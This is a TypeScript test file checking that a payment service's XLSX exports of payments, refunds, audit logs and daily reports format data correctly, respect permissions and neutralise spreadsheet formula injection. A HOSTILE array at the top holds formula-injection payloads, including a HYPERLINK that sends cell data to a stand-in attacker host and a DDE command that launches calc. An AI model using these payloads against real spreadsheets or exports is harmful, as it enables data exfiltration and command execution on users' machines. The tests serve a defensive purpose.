import { describe, expect, it } from "vitest";
import { accountOperations } from "@/lib/api/account/operations";
import type { AccountOperation } from "@/lib/api/core/operation";
import { auditLine } from "@/lib/domain/audit";
import { issueDeviceKey } from "@/lib/domain/devices";
import { db } from "@/lib/kit/db";
import { newId } from "@/lib/kit/ids";
import { LANGUAGES } from "@/lib/kit/language";
import { inLanguage } from "@/lib/kit/language-scope";
import { messages } from "@/lib/messages";
import "@/lib/messages/all-languages";
import { callAccount, requestAccount } from "@/tests/support/account/member-client";
import { book, bookedPayment } from "@/tests/support/many-payments";
import { newMember } from "@/tests/support/member";
import { type Merchant, newMerchant } from "@/tests/support/merchant";
import { cellsOf, partsOf, rowsOf, sheetsOf, type WorkbookCell } from "@/tests/support/workbook";

const { exportPayments, exportRefunds, exportAuditLog, exportDailyClose, exportDays } =
  accountOperations;
const DAY = "2026-11-21";
/** Noon in the shop's time zone. */
const NOON = new Date("2026-11-21T07:00:00.500Z");

const HOSTILE = [
  `=HYPERLINK("https://evil.example/?"&A1,"Click")`,
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "</t></is></c><c><f>1+1</f></c>",
  "Қазақша: әғқңөұүһі 🧾",
  "_x0041_",
];

async function download(
  merchant: Merchant,
  operation: AccountOperation,
  query: Record<string, string> = {},
): Promise<{ file: ArrayBuffer; name: string }> {
  const input = { query: { ...query, format: "xlsx" } };
  const response = await requestAccount(merchant.owner, operation, input);
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toBe(
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
  );
  const name = /filename="(.*)"/.exec(response.headers.get("content-disposition")!)![1]!;
  return { file: await response.arrayBuffer(), name };
}

type Named = Record<string, WorkbookCell | undefined>;

/** Returns the rows of the only sheet, with the cells by the names of their columns. */
function named(file: ArrayBuffer): Named[] {
  const [names, ...rows] = cellsOf(file);
  return rows.map((row) =>
    Object.fromEntries(names!.map((name, index) => [name!.value, row[index]])),
  );
}

const text = (value: string) => ({ value, format: "@", isBold: false });
const amount = (value: number) => ({ value, format: "#,##0.00", isBold: false });
const count = (value: number) => ({ value, format: "#,##0", isBold: false });
/** A date, and a time on it by the clocks of the shop. */
const local = (date: string, time = "00:00:00") => ({
  value: expect.closeTo(
    (Date.parse(`${date}T${time}Z`) - Date.UTC(1899, 11, 30)) / 86_400_000,
    8,
  ) as number,
  format: "yyyy-mm-dd hh:mm:ss",
  isBold: false,
});
const day = (date: string) => ({ ...local(date), format: "yyyy-mm-dd" });

describe("the payments as a workbook", () => {
  it("have the columns of the CSV file, as numbers, dates and text", async () => {
    const merchant = await newMerchant();
    const kept = bookedPayment(merchant, {
      createdAt: NOON,
      amount: 150_050n,
      refundedAmount: 50_000n,
      merchantOrderId: "0012",
      comment: "two\r\nlines",
    });
    await book([kept, bookedPayment(merchant, { createdAt: NOON, status: "failed" })]);
    const query = { status: "partly_refunded", created_from: DAY, created_to: DAY };
    const { file, name } = await download(merchant, exportPayments, query);
    expect(name).toBe("payments-2026-11-21-to-2026-11-21.xlsx");
    expect(sheetsOf(file)).toEqual(["Payments"]);
    const [row, ...more] = named(file);
    expect(more).toEqual([]);
    expect(row).toEqual({
      payment_id: text(kept.id),
      status: text("partly_refunded"),
      amount: amount(1500.5),
      currency: text("KZT"),
      refunded_amount: amount(500),
      "created_at (Asia/Almaty)": local(DAY, "12:00:00"),
      "created_at (UTC)": text("2026-11-21T07:00:00.500+00:00"),
      "completed_at (Asia/Almaty)": local(DAY, "12:00:00"),
      "completed_at (UTC)": text("2026-11-21T07:00:00.500+00:00"),
      method: text("direct"),
      payer_phone: text("+77011234567"),
      merchant_order_id: text("0012"),
      device: text("Till 1"),
      comment: text("two\nlines"),
      api_status: text("completed"),
      tip: amount(0),
      paid_amount: amount(1500.5),
      display_method: text("direct"),
    });
    const csv = await callAccount(merchant.owner, exportPayments);
    expect(rowsOf(file)[0]!.join()).toBe(csv.text.replace("\uFEFF", "").split("\r\n")[0]);
  });

  it("keep every text as it is, and contain nothing that is executed", async () => {
    const merchant = await newMerchant();
    const [first, ...further] = HOSTILE.map((order, index) =>
      bookedPayment(merchant, {
        merchantOrderId: order,
        comment: order,
        createdAt: new Date(NOON.getTime() - index),
      }),
    );
    await book([
      { ...first!, comment: "bell \u0007, escape \u001B, no character \uFFFE." },
      ...further,
    ]);
    const { file } = await download(merchant, exportPayments);
    const rows = named(file);
    expect(rows.map((row) => row["merchant_order_id"])).toEqual(HOSTILE.map(text));
    expect(rows.map((row) => row["comment"]?.value)).toEqual([
      "bell , escape , no character .",
      ...HOSTILE.slice(1),
    ]);
    for (const part of Object.values(partsOf(file))) expect(part).not.toMatch(/<f[ >]/);
  });

  it("show the decimals of the currency", async () => {
    const merchant = await newMerchant({ currency: "JPY" });
    await book([bookedPayment(merchant, { amount: 1500n })]);
    const { file } = await download(merchant, exportPayments);
    expect(named(file)[0]!["amount"]).toEqual(count(1500));
  });

  it("can be only selected ones, of those that the member can see", async () => {
    const [merchant, other] = [await newMerchant(), await newMerchant()];
    const [own, left, foreign] = [merchant, merchant, other].map((of) => bookedPayment(of));
    await book([own!, left!, foreign!]);
    const ids = [foreign!.id, own!.id].join(",");
    const { file, name } = await download(merchant, exportPayments, { ids });
    expect(name).toBe("payments-selected.xlsx");
    expect(rowsOf(file).map(([id]) => id)).toEqual(["payment_id", own!.id]);
  });

  it("are as many as there are, in order", async () => {
    const merchant = await newMerchant();
    const payments = Array.from({ length: 450 }, (_, index) =>
      bookedPayment(merchant, { createdAt: new Date(NOON.getTime() - index * 1000) }),
    );
    await book(payments);
    const { file } = await download(merchant, exportPayments);
    expect(rowsOf(file).map(([id]) => id)).toEqual(["payment_id", ...payments.map(({ id }) => id)]);
  });
});

it("the refunds can be a workbook", async () => {
  const merchant = await newMerchant();
  const payment = bookedPayment(merchant, { createdAt: NOON });
  await book([payment]);
  const { organizationId, mode, userId, currency } = payment;
  const id = newId("refund");
  const refund = { id, organizationId, mode, userId, currency, paymentId: payment.id };
  await db().refund.create({
    data: { ...refund, amount: 1_250n, reason: HOSTILE[0]!, createdAt: NOON },
  });
  const { file, name } = await download(merchant, exportRefunds);
  expect(name).toMatch(/^refunds-all-to-\d{4}-\d\d-\d\d\.xlsx$/);
  expect(sheetsOf(file)).toEqual(["Refunds"]);
  expect(named(file)).toEqual([
    expect.objectContaining({
      refund_id: text(id),
      payment_id: text(payment.id),
      amount: amount(12.5),
      payment_amount: amount(1500),
      "created_at (Asia/Almaty)": local(DAY, "12:00:00"),
      payer_phone: text("+77011234567"),
      reason: text(HOSTILE[0]!),
    }),
  ]);
});

it("the audit log can be a workbook", async () => {
  const merchant = await newMerchant();
  const line = auditLine({ ...merchant.owner, ip: "192.0.2.1" }, "act.1", {
    target: "x",
    data: { of: HOSTILE[0] },
  });
  await db().auditEntry.create({ data: { ...line, at: NOON } });
  const { file, name } = await download(merchant, exportAuditLog, { action: "act.1" });
  expect(name).toMatch(/^audit-log-all-to-.*\.xlsx$/);
  expect(sheetsOf(file)).toEqual(["Audit log"]);
  expect(named(file)).toEqual([
    expect.objectContaining({
      "at (Asia/Almaty)": local(DAY, "12:00:00"),
      "at (UTC)": text("2026-11-21T07:00:00.500+00:00"),
      actor: text("Aigerim"),
      action: text("act.1"),
      data: text(JSON.stringify({ of: HOSTILE[0] })),
      ip: text("192.0.2.1"),
    }),
  ]);
});

describe("the reports as workbooks", () => {
  /** A till with a name that a spreadsheet would execute, and one payment. */
  async function shop() {
    const merchant = await newMerchant();
    const { deviceKey } = await issueDeviceKey(merchant.owner, { name: HOSTILE[0]! });
    await book([
      bookedPayment(merchant, { createdAt: NOON, deviceKeyId: deviceKey.id, amount: 150_050n }),
    ]);
    return merchant;
  }

  const bold = (cell: { value: number; format: string }) => ({ ...cell, isBold: true });
  const heads = (...names: string[]) =>
    names.map((value) => ({ value, format: "@", isBold: true }));
  const sums = (count_: number, taken: number) => [
    count(count_),
    amount(taken),
    count(0),
    amount(0),
    amount(taken),
  ];

  it("the daily close has a sheet for each table of the screen, with its total", async () => {
    const { file, name } = await download(await shop(), exportDailyClose, { day: DAY });
    expect(name).toBe("daily-close-2026-11-21.xlsx");
    expect(sheetsOf(file)).toEqual(["Summary", "By source", "By method", "By hour"]);
    const summary = rowsOf(file);
    expect(summary.slice(0, 4)).toEqual([
      ["Daily close, Saturday, 21 November 2026", "Number", "Amount, KZT"],
      ["Collected", 1, 1500.5],
      ["Refunded", 0, 0],
      ["Net", undefined, 1500.5],
    ]);
    expect(summary).toContainEqual(["Paid", 1]);
    expect(summary.flat()).toContainEqual(
      expect.stringMatching(/^Time zone: Asia\/Almaty. Created /),
    );
    expect(cellsOf(file, 2)).toEqual([
      heads("Source", "Payments", "Collected, KZT", "Refunds", "Refunded, KZT", "Net, KZT"),
      [text(HOSTILE[0]!), ...sums(1, 1500.5)],
      [...heads("Total"), ...sums(1, 1500.5).map(bold)],
    ]);
    expect(rowsOf(file, 4).map(([hour]) => hour)).toEqual(["Hour", "12:00 – 13:00", "Total"]);
    // A total stays where it is when somebody sorts.
    expect(partsOf(file)["xl/worksheets/sheet2.xml"]).toContain('<autoFilter ref="A1:F2"/>');
  });

  it("the days have a row each, and a total", async () => {
    const input = { from: "2026-11-20", to: DAY };
    const { file, name } = await download(await shop(), exportDays, input);
    expect(name).toBe("days-2026-11-20-to-2026-11-21.xlsx");
    expect(sheetsOf(file).slice(0, 2)).toEqual(["Summary", "Day by day"]);
    const [, ...rows] = cellsOf(file, 2);
    expect(rows).toEqual([
      [day("2026-11-20"), ...sums(0, 0), amount(0)],
      [day(DAY), ...sums(1, 1500.5), amount(0)],
      [...heads("Total"), ...[...sums(1, 1500.5), amount(0)].map(bold)],
    ]);
  });

  it.each([
    ["ru", "Сводка", "По источникам", "Получено, KZT", "Итого"],
    ["kk", "Жиынтық", "Дереккөз бойынша", "Түсім, KZT", "Барлығы"],
  ] as const)("are in the language of who downloads them: %s", async (language, ...words) => {
    const merchant = await shop();
    const [summary, bySource, taken, total] = words;
    const { file } = await inLanguage(language, () =>
      download(merchant, exportDailyClose, { day: DAY }),
    );
    expect(sheetsOf(file).slice(0, 2)).toEqual([summary, bySource]);
    const rows = rowsOf(file, 2);
    expect(rows[0]![2]).toBe(taken);
    expect(rows.at(-1)![0]).toBe(total);
    const csv = await inLanguage(language, () =>
      callAccount(merchant.owner, exportDailyClose, { query: { day: DAY } }),
    );
    expect(csv.text).toMatch(/^\uFEFF?day,time_zone,currency,group,name,payments,taken,/);
  });

  it("have names that every spreadsheet program takes for a sheet", () => {
    for (const language of LANGUAGES) {
      inLanguage(language, () => {
        const { sheets, bySource, byLocation, byPerson, byMethod, byHour, views } =
          messages.reports;
        const names = [
          sheets.summary,
          bySource,
          byLocation,
          byPerson,
          byMethod,
          byHour,
          views.days,
        ];
        for (const name of [...names, messages.shifts.table]) {
          expect(name).toMatch(/^[^[\]:*?/\\']{1,31}$/);
        }
      });
    }
  });
});

const QUERIES: [string, AccountOperation, Record<string, string>][] = [
  ["payments", exportPayments, {}],
  ["refunds", exportRefunds, {}],
  ["audit log", exportAuditLog, {}],
  ["daily close", exportDailyClose, {}],
  ["days", exportDays, { from: DAY, to: DAY }],
];

describe.each(QUERIES)("the file of the %s", (_, operation, query) => {
  it("is CSV unless another format is chosen, and no other than these three", async () => {
    const { owner } = await newMerchant();
    for (const input of [query, { ...query, format: "csv" }]) {
      const { headers } = await callAccount(owner, operation, { query: input });
      expect(headers.get("content-type")).toBe("text/csv; charset=utf-8");
    }
    const local = await inLanguage("ru", () =>
      callAccount(owner, operation, { query: { ...query, format: "csv_local" } }),
    );
    expect(local.headers.get("content-disposition")).toMatch(/\.csv"$/);
    expect(local.text).toMatch(/^\uFEFF?[^,]+;[^,]+\r\n/);
    for (const format of ["pdf", "XLSX"]) {
      const refused = await callAccount(owner, operation, { query: { ...query, format } });
      expect(refused.status).toBe(400);
      expect(refused.body).toMatchObject({
        error: "VALIDATION_ERROR",
        details: [{ field: "format", message: "format must be one of: csv, csv_local, xlsx" }],
      });
    }
  });

  it("is refused as a workbook for those who may not see it", async () => {
    const merchant = await newMerchant();
    const cashier = await newMember(merchant.organization.id, "cashier");
    const input = { query: { ...query, format: "xlsx" } };
    expect((await callAccount(cashier, operation, input)).status).toBe(403);
    expect((await callAccount(cashier, operation, { ...input, headers: {} })).status).toBe(401);
  });
});
